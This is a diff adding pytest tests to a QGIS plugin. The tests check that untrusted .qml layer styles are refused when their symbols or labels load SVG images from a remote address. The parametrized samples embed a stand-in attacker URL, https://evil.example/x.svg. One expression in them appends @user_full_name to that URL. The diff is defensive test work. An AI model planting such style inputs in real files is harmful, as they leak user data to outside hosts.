@@ -12,8 +12,12 @@ from qgis.core import (
     QgsFeature,
     QgsGeometry,
     QgsGraduatedSymbolRenderer,
+    QgsPalLayerSettings,
+    QgsProperty,
     QgsSingleSymbolRenderer,
+    QgsSymbolLayer,
     QgsVectorLayer,
+    QgsVectorLayerSimpleLabeling,
 )
 from qgis.PyQt.QtGui import QColor
 
@@ -152,6 +156,63 @@ def test_a_foreign_style_whose_symbols_ask_the_computer_is_left_out(evil, tmp_pa
     reaching = tmp_path / "reaching.qml"
     reaching.write_text(f'{text[:place]} attr="{call}"{text[place:]}', encoding="utf-8")
     assert not apply_foreign_style(layer_of("y"), reaching)
+
+
+SVG = "https://evil.example/x.svg"
+
+
+@pytest.mark.parametrize(
+    "written",
+    [
+        f'<background shapeSVGFile="{SVG}"/>',
+        f'<background shapeSVGFile="{SVG}" name="shapeSVGFile" value=""/>',
+        f'<prop name="color" k="name" v="{SVG}"/>',
+        f'<Option type="Map" name="name"><Option name="expression" value="\'{SVG}?\' || @user_full_name"/></Option>',
+        '<Option type="Map" name="ShapeSVGFile"><Option name="field" value="picture"/></Option>',
+        '<Option name="file" type="Map"/>',
+        '<prop k="name_dd_expression" v="picture"/>',
+        '<prop k="svgFile_expression" v="picture"/>',
+        '<data-defined><ShapeSVGFile expr="picture" useExpr="true" active="true" field=""/></data-defined>',
+        '<text-style allowHtml="1" fieldName="picture"/>',  # the data's own field may hold <img src="https://…">
+    ],
+)
+def test_a_foreign_style_whose_pictures_come_from_an_address_is_left_out(evil, tmp_path, written):
+    text = evil.read_text(encoding="utf-8")
+    place = text.index(">", text.index("<renderer-v2")) + 1
+    reaching = tmp_path / "reaching.qml"
+    reaching.write_text(text[:place] + written + text[place:], encoding="utf-8")
+    assert not apply_foreign_style(layer_of("y"), reaching)
+
+
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [("labeling/shapeSVGFile", SVG), ("labeling/dataDefined/ShapeSVGFile", "1~~1~~'x'~~"), ("labeling/allowHtml", "1")],
+)
+def test_old_labels_among_the_custom_properties_of_a_style_are_looked_at_too(evil, tmp_path, key, value):
+    reaching = tmp_path / "reaching.qml"
+    reaching.write_text(
+        '<qgis version="2.18.0"><renderer-v2 type="nullSymbol"/><customproperties>'
+        f'<property key="labeling" value="pal"/><property key="{key}" value="{value}"/></customproperties></qgis>',
+        encoding="utf-8",
+    )
+    assert not apply_foreign_style(layer_of("y"), reaching)
+
+
+def test_a_foreign_style_with_labels_and_sizes_by_expression_is_taken(qgis_app, tmp_path):
+    made = layer_of("x", fields="&field=name:string")
+    made.renderer().symbol().setColor(QColor("#ff0000"))
+    size = QgsProperty.fromExpression('length("name")')
+    made.renderer().symbol().symbolLayer(0).setDataDefinedProperty(QgsSymbolLayer.Property.PropertySize, size)
+    labels = QgsPalLayerSettings()
+    labels.fieldName = "name"
+    made.setLabeling(QgsVectorLayerSimpleLabeling(labels))
+    made.setCustomProperty("labeling/enabled", "true")
+    path = tmp_path / "labels.qml"
+    qml_of(made, path)
+    layer = layer_of("y", fields="&field=name:string")
+    assert apply_foreign_style(layer, path)
+    assert layer.renderer().symbol().color() == QColor("#ff0000")
+    assert layer.labeling().settings().fieldName == "name"
 
 
 def test_a_broken_or_huge_style_is_left_out(qgis_app, tmp_path):
